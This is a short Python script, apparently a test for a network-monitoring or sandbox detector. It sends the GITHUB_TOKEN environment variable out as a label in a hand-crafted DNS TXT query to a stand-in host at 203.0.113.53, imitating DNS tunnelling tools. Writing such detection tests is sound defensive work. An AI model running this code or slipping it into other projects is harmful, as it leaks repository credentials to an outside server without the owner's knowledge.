#!/usr/bin/python3
"""
Trick: Asks a server of its own choice for TXT records, with a hand-made query.
Known from: iodine and dnscat2, which speak DNS themselves and not through the C library.
First: the responder's record of the question, whatever server was asked
Second: sendto; the cgroup hook's copy of the address
"""

import os
import socket
import struct

labels = [os.environ["GITHUB_TOKEN"].encode(), b"vendor", b"example"]
name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 16, 1)
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.settimeout(2)
channel.sendto(query, ("203.0.113.53", 53))
channel.recv(512)
print("performed")
